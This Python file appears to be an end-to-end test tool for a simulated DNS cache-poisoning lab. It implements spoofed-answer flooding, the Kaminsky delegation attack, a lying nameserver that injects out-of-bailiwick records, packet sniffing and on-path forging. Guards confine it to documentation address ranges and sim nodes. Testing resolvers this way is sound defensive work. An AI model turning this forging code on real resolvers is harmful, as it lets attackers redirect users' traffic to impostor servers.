"""The attacker's tool for the cache-poisoning lab (topologies/poisoning.toml),
run inside the attacker's node:

    sudo ./sim exec attacker python3 tests/e2e/poisoning_attack.py MODE [options]

Modes (each bounded in packets and in time, and printing one JSON line of
figures when done):

  race      the plain race: ask the resolver for www.bank.example, then
            flood it with answers forged from the bank's nameserver
            (203.0.113.53:53) that put www.bank.example at the attacker,
            guessing the query ID and the resolver's source port;
  kaminsky  Kaminsky's attack: ask for rnd<N>.bank.example, a fresh name
            each time so that every trigger opens a new race, and flood
            forged answers carrying a delegation of bank.example to a
            nameserver at the attacker (in-bailiwick NS + glue), also in
            the shape a TLD server's referral would have;
  lie       out-of-bailiwick glue: serve evil.example (the attacker's own
            domain, whose honest server must be stopped first) from port
            53 with lies -- records for bank.example and example. riding in
            the answer, authority and additional sections of true-looking
            answers, CNAMEs, referrals and NXDOMAINs -- and ask the resolver
            the questions that bring them in;
  forge     send COUNT forged answers to one port with one ID (the test's
            control: to a listener);
  onpath    forge COUNT answers to each query that `sniff` reports on stdin,
            with its port and ID -- what an attacker who can see the
            resolver's traffic does (the test's control: proof that one
            answer that matches is enough, and that the checks see it);
  listen    (run on the resolver's node, for the control) count what
            arrives on a UDP port: proof the forged packets get there;
  sniff     (run on the resolver's node, for the control) print the port,
            ID and question of each query the resolver sends to a server,
            as an on-path observer would see them.

Safety: it runs only on a host holding the attacker's (or, for listen and
sniff, the resolver's) sim address, and refuses to send to any address
outside the documentation ranges the sims use.
"""
import argparse
import ipaddress
import json
import random
import select
import socket
import struct
import sys
import time

import dns.message

SIM_RANGES = [ipaddress.ip_network(p) for p in
              ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "198.18.0.0/15")]

RESOLVER, BANK_NS, TLD_NS, ATTACKER = "198.18.10.53", "203.0.113.53", "203.0.113.20", "198.51.100.66"
T_A, T_NS, T_CNAME, T_SOA, T_MX = 1, 2, 5, 6, 15


# ---- safety -----------------------------------------------------------

def refuse_outside_sim(local):
    """Run only on a sim node: one that holds LOCAL, a sim address (the
    machine itself holds none of them)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.bind((sim_address(local), 0))
    except OSError:
        sys.exit(f"poisoning_attack: this host does not hold {local}: run it inside the sim "
                 "(`sim exec attacker ...`)")
    finally:
        s.close()


def sim_address(a):
    if not any(ipaddress.ip_address(a) in n for n in SIM_RANGES):
        sys.exit(f"poisoning_attack: {a} is outside the sim's address ranges; refusing")
    return a


# ---- wire format --------------------------------------------------------

def wname(name):
    out = b""
    for label in name.rstrip(".").split("."):
        if label:
            out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def rr(owner, rtype, ttl, rdata):
    return wname(owner) + struct.pack("!HHIH", rtype, 1, ttl, len(rdata)) + rdata


def a(owner, addr, ttl=86400):
    return rr(owner, T_A, ttl, socket.inet_aton(addr))


def ns(owner, target, ttl=86400):
    return rr(owner, T_NS, ttl, wname(target))


def response(qname, qtype, flags, answer=(), authority=(), additional=(), qname_wire=None):
    """A response without its ID (the first two octets are patched in)."""
    head = struct.pack("!HHHHHH", 0, flags, 1, len(answer), len(authority), len(additional))
    q = (qname_wire or wname(qname)) + struct.pack("!HH", qtype, 1)
    return bytearray(head + q + b"".join(answer) + b"".join(authority) + b"".join(additional))


QR, AA = 0x8000, 0x0400


def query(qid, name, qtype=T_A):
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + wname(name) + struct.pack("!HH", qtype, 1)


class Forger:
    """A raw socket writing whole IPv4 packets, source address and all."""

    def __init__(self, dst):
        self.dst = sim_address(dst)
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.sent = 0
        self.dropped = 0

    def send(self, src, sport, dport, dns):
        udp = struct.pack("!HHHH", sport, dport, 8 + len(dns), 0) + dns   # no checksum (RFC 768)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(self.dst))
        for _ in range(50):
            try:
                self.s.sendto(ip + udp, (self.dst, 0))
                self.sent += 1
                return
            except (BlockingIOError, OSError):
                time.sleep(0.0005)
        self.dropped += 1

    def flood(self, src, templates, count):
        """count forged answers cycling through templates, each with a
        guessed ID and a guessed destination port."""
        for i in range(count):
            t = templates[i % len(templates)]
            struct.pack_into("!H", t, 0, random.getrandbits(16))
            self.send(src, 53, random.randint(1024, 65535), bytes(t))


class Trigger:
    """Questions to the resolver from the attacker's own address; the
    answers are read back without waiting for them."""

    def __init__(self, resolver):
        self.resolver = sim_address(resolver)
        self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.s.setblocking(False)
        self.asked = {}
        self.answers = {}
        self.count = 0

    def ask(self, name, qtype=T_A):
        qid = random.getrandbits(16)
        while qid in self.asked:
            qid = random.getrandbits(16)
        self.asked[qid] = name
        self.s.sendto(query(qid, name, qtype), (self.resolver, 53))
        self.count += 1
        return qid

    def drain(self, wait=0.0):
        end = time.monotonic() + wait
        while True:
            left = end - time.monotonic()
            r, _, _ = select.select([self.s], [], [], max(0.0, left))
            if not r:
                if left <= 0:
                    return
                continue
            wire = self.s.recv(65535)
            qid, flags = struct.unpack("!HH", wire[:4])
            if qid in self.asked:
                self.answers[qid] = (self.asked[qid], wire)


def answers_text(wire):
    """The records of an answer as text (dnspython), for the report."""
    m = dns.message.from_wire(wire)
    return {"rcode": m.rcode(),
            "records": [line for s in m.answer for line in s.to_text().splitlines()]}


def attacker_in(records, attacker):
    return [r for r in records if attacker in r or "evil.example" in r]


# ---- the attacks -----------------------------------------------------------

def flush(ctl, name):
    """The test's stand-in for a TTL running out: make the resolver forget
    NAME through its control socket (a filesystem path, not the network)."""
    if not ctl:
        return
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(ctl)
    s.sendall(f"flush {name}\n".encode())
    s.recv(4096)
    s.close()


def race(args):
    f, t = Forger(args.resolver), Trigger(args.resolver)
    name = args.target
    forged = response(name, T_A, QR | AA,
                      answer=[a(name, args.attacker)],
                      authority=[ns(args.zone, "ns1." + args.zone)],
                      additional=[a("ns1." + args.zone, args.attacker)])
    start = time.monotonic()
    for i in range(args.triggers):
        if time.monotonic() - start > args.time_limit:
            break
        flush(args.flush_ctl, name)
        t.ask(name)
        f.flood(sim_address(args.auth), [forged], args.per_trigger)
        t.drain()
    return f, t, start


def kaminsky(args):
    f, t = Forger(args.resolver), Trigger(args.resolver)
    zone, nsname = args.zone, "ns1." + args.zone
    start = time.monotonic()
    for i in range(args.triggers):
        if time.monotonic() - start > args.time_limit:
            break
        name = f"rnd{random.randint(100000, 999999)}.{zone}"
        # As the bank's server would answer the random name: an answer, and
        # "by the way, bank.example's nameserver is at the attacker".
        classic = response(name, T_A, QR | AA, answer=[a(name, args.attacker, 60)],
                           authority=[ns(zone, nsname)],
                           additional=[a(nsname, args.attacker)])
        evil_ns = response(name, T_A, QR | AA, answer=[a(name, args.attacker, 60)],
                           authority=[ns(zone, "ns.evil.example")],
                           additional=[a("ns.evil.example", args.attacker)])
        # As the TLD would refer a resolver asking for it, whole or minimised.
        referral = response(name, T_A, QR, authority=[ns(zone, nsname)],
                            additional=[a(nsname, args.attacker)])
        t.ask(name)
        f.flood(sim_address(args.auth), [classic, evil_ns], args.per_trigger * 3 // 4)
        f.flood(sim_address(args.tld), [referral], args.per_trigger - args.per_trigger * 3 // 4)
        t.drain()
    return f, t, start


def lie(args):
    """A lying authoritative server for evil.example on port 53 of the
    attacker's own address, and the questions that make the resolver ask it."""
    addr, zone = args.attacker, "evil.example"
    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv.bind((addr, 53))
    t = Trigger(args.resolver)
    junk_auth = [ns(args.zone, "ns.evil.example"), ns("example", "ns.evil.example")]
    junk_add = [a("www." + args.zone, addr), a("ns1." + args.zone, addr),
                a("ns.nic.example", addr), a("a.root-servers.net", addr),
                a("ns.evil.example", addr)]
    served = 0

    def lying_answer(wire):
        qid, _, qd = struct.unpack("!HHH", wire[:6])
        end = 12
        while wire[end]:
            end += 1 + wire[end]
        qwire = wire[12:end + 1]
        qtype = struct.unpack("!H", wire[end + 1:end + 3])[0]
        labels, i = [], 0
        while qwire[i]:
            labels.append(qwire[i + 1:i + 1 + qwire[i]].decode().lower())
            i += 1 + qwire[i]
        qname = ".".join(labels)
        kind = labels[0].split("-")[-1] if labels else ""
        if kind == "cname":          # a CNAME into the bank, with the "answer" to it
            m = response(qname, qtype, QR | AA,
                         answer=[rr(qname, T_CNAME, 300, wname("www." + args.zone)),
                                 a("www." + args.zone, addr)],
                         authority=junk_auth, additional=junk_add, qname_wire=qwire)
        elif kind == "deleg":        # a referral to a nameserver in another zone, with its "glue"
            m = response(qname, qtype, QR, authority=[ns(qname, "ns1." + args.zone)],
                         additional=junk_add, qname_wire=qwire)
        elif kind == "nx":           # NXDOMAIN, with bank.example's "SOA" and more
            soa = rr(args.zone, T_SOA, 300, wname("ns.evil.example") + wname("h.evil.example")
                     + struct.pack("!IIIII", 1, 2, 3, 4, 86400))
            m = response(qname, qtype, QR | AA, authority=[soa] + junk_auth,
                         additional=junk_add, qname_wire=qwire)
            struct.pack_into("!H", m, 2, QR | AA | 3)
        elif qtype == T_MX:          # an MX target in the bank, with its "address"
            m = response(qname, qtype, QR | AA,
                         answer=[rr(qname, T_MX, 300, struct.pack("!H", 10) + wname("mail." + args.zone))],
                         authority=junk_auth, additional=[a("mail." + args.zone, addr)] + junk_add,
                         qname_wire=qwire)
        elif qtype == T_NS:          # the zone's own NS, with glue for others
            m = response(qname, qtype, QR | AA, answer=[ns(qname, "ns.evil.example")],
                         authority=junk_auth, additional=junk_add, qname_wire=qwire)
        elif qtype == T_A:           # a true answer, with lies riding along
            m = response(qname, qtype, QR | AA, answer=[a(qname, addr, 300),
                                                        a("www." + args.zone, addr)],
                         authority=junk_auth, additional=junk_add, qname_wire=qwire)
        else:                        # NODATA with lies
            soa = rr(zone, T_SOA, 300, wname("ns.evil.example") + wname("h.evil.example")
                     + struct.pack("!IIIII", 1, 2, 3, 4, 60))
            m = response(qname, qtype, QR | AA, authority=[soa] + junk_auth,
                         additional=junk_add, qname_wire=qwire)
        struct.pack_into("!H", m, 0, qid)
        return bytes(m)

    questions = [("www", T_A), ("cname", T_A), ("deleg", T_A), ("nx", T_A), ("", T_MX), ("", T_NS)]
    start = time.monotonic()
    rounds = max(1, args.triggers // len(questions))
    for i in range(rounds):
        for label, qtype in questions:
            if time.monotonic() - start > args.time_limit:
                break
            name = f"r{i}-{label}.{zone}" if label else (zone if i == 0 else f"r{i}.{zone}")
            qid = t.ask(name, qtype)
            deadline = time.monotonic() + 3
            while qid not in t.answers and time.monotonic() < deadline:
                r, _, _ = select.select([srv, t.s], [], [], 0.05)
                if srv in r:
                    wire, peer = srv.recvfrom(65535)
                    try:
                        srv.sendto(lying_answer(wire), peer)
                        served += 1
                    except (IndexError, struct.error, UnicodeDecodeError):
                        pass
                if t.s in r:
                    t.drain()
    srv.close()
    return served, t, start


# ---- the control's helpers (run on the resolver's node) ----------------------

def listen(args):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, 33, 8 << 20)     # SO_RCVBUFFORCE: hold a whole burst
    s.bind((args.resolver, args.port))
    s.settimeout(0.2)
    got, sources, carrying = 0, {}, 0
    print(json.dumps({"listening": args.port}), flush=True)
    end = time.monotonic() + args.time_limit
    while got < args.count and time.monotonic() < end:
        try:
            wire, peer = s.recvfrom(65535)
        except socket.timeout:
            continue
        got += 1
        key = f"{peer[0]}:{peer[1]}"
        sources[key] = sources.get(key, 0) + 1
        if socket.inet_aton(args.attacker) in wire:
            carrying += 1
    print(json.dumps({"received": got, "sources": sources, "carrying_attacker": carrying}), flush=True)


def sniff(args):
    # ETH_P_ALL: only such sockets see the packets a host sends.
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
    s.settimeout(0.2)
    server = socket.inet_aton(args.auth)
    print(json.dumps({"sniffing": args.auth}), flush=True)
    seen, end = 0, time.monotonic() + args.time_limit
    while seen < args.count and time.monotonic() < end:
        try:
            pkt, where = s.recvfrom(65535)
        except socket.timeout:
            continue
        if where[1] != 0x0800 or len(pkt) < 28:
            continue
        ihl = (pkt[0] & 15) * 4
        if pkt[9] != 17 or pkt[16:20] != server:
            continue
        sport, dport = struct.unpack("!HH", pkt[ihl:ihl + 4])
        dns = pkt[ihl + 8:]
        if dport != 53 or len(dns) < 17:
            continue
        end_q = 12
        while dns[end_q]:
            end_q += 1 + dns[end_q]
        qtype = struct.unpack("!H", dns[end_q + 1:end_q + 3])[0]
        print(json.dumps({"src": socket.inet_ntoa(pkt[12:16]), "port": sport,
                          "id": struct.unpack("!H", dns[:2])[0], "qname": dns[12:end_q + 1].hex(),
                          "qtype": qtype}), flush=True)
        seen += 1


def forge(args, f=None):
    f = f or Forger(args.resolver)
    qwire = bytes.fromhex(args.qname_hex) if args.qname_hex else wname(args.target)
    t = response(args.target, args.qtype, QR | AA, answer=[], qname_wire=qwire)
    # The answer's owner is a pointer to the question's name (offset 12).
    ans = b"\xc0\x0c" + struct.pack("!HHIH", T_A, 1, 86400, 4) + socket.inet_aton(args.attacker)
    t = bytearray(bytes(t) + ans)
    struct.pack_into("!H", t, 6, 1)
    start = time.monotonic()
    for _ in range(args.count):
        struct.pack_into("!H", t, 0, args.id if args.id is not None else random.getrandbits(16))
        f.send(sim_address(args.auth), 53, args.port, bytes(t))
    return f, start


def onpath(args):
    """Forge an answer to each query an on-path observer reports on stdin
    (the JSON lines `sniff` prints): the right port, the right ID."""
    f, answered = Forger(args.resolver), 0
    start = time.monotonic()
    for line in sys.stdin:
        seen = json.loads(line)
        if "sniffing" in seen:
            print(json.dumps({"ready": True}), flush=True)
            continue
        args.port, args.id, args.qname_hex, args.qtype = (seen["port"], seen["id"],
                                                          seen["qname"], seen["qtype"])
        forge(args, f)
        answered += 1
        if answered >= args.triggers or time.monotonic() - start > args.time_limit:
            break
    return f, start, answered


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["race", "kaminsky", "lie", "forge", "onpath", "listen", "sniff"])
    p.add_argument("--resolver", default=RESOLVER, help="the resolver to poison")
    p.add_argument("--auth", default=BANK_NS, help="the bank's nameserver, whose address is forged")
    p.add_argument("--tld", default=TLD_NS, help="the TLD's server, forged for referrals")
    p.add_argument("--attacker", default=ATTACKER, help="where the forged records point")
    p.add_argument("--zone", default="bank.example", help="the victim zone")
    p.add_argument("--target", default="www.bank.example", help="the name to steal (race, forge)")
    p.add_argument("--triggers", type=int, default=200, help="questions sent to the resolver")
    p.add_argument("--per-trigger", type=int, default=100, help="forged answers per question")
    p.add_argument("--time-limit", type=float, default=20.0, help="seconds, at most")
    p.add_argument("--flush-ctl", help="race: the resolver's control socket, to stand in for "
                   "a TTL running out before each trigger")
    p.add_argument("--port", type=int, default=0, help="forge/listen: the port")
    p.add_argument("--id", type=int, help="forge: the query ID (default: random each)")
    p.add_argument("--qtype", type=int, default=T_A, help="forge: the question's type")
    p.add_argument("--qname-hex", help="forge: the question's name in wire form, as sniffed")
    p.add_argument("--count", type=int, default=100, help="forge/listen/sniff: packets")
    args = p.parse_args()
    for addr in (args.resolver, args.auth, args.tld, args.attacker):
        sim_address(addr)
    args.per_trigger = min(args.per_trigger, 1000)
    args.triggers = min(args.triggers, 1000)
    args.count = min(args.count, 100000)
    args.time_limit = min(args.time_limit, 60.0)
    refuse_outside_sim(args.resolver if args.mode in ("listen", "sniff") else args.attacker)

    if args.mode == "listen":
        return listen(args)
    if args.mode == "sniff":
        return sniff(args)
    if args.mode == "forge":
        f, start = forge(args)
        print(json.dumps({"mode": "forge", "forged": f.sent, "send_failures": f.dropped,
                          "seconds": round(time.monotonic() - start, 3)}))
        return
    if args.mode == "onpath":
        f, start, answered = onpath(args)
        print(json.dumps({"mode": "onpath", "queries_seen": answered, "forged": f.sent,
                          "seconds": round(time.monotonic() - start, 3)}), flush=True)
        return
    if args.mode == "lie":
        served, t, start = lie(args)
        forged = 0
        extra = {"lies_served": served}
    else:
        f, t, start = race(args) if args.mode == "race" else kaminsky(args)
        forged = f.sent
        extra = {"send_failures": f.dropped}
    t.drain(wait=2.0)      # the resolver's answers to our questions, for the report
    stolen = []
    for name, wire in t.answers.values():
        txt = answers_text(wire)
        bad = [r for r in attacker_in(txt["records"], args.attacker)
               if not r.split()[0].rstrip(".").lower().endswith("evil.example")]
        if bad:
            stolen.append({"asked": name, "records": bad})
    print(json.dumps({"mode": args.mode, "triggers": t.count, "forged": forged,
                      "answers": len(t.answers), "answers_pointing_at_attacker": stolen,
                      "seconds": round(time.monotonic() - start, 3), **extra}))


if __name__ == "__main__":
    main()
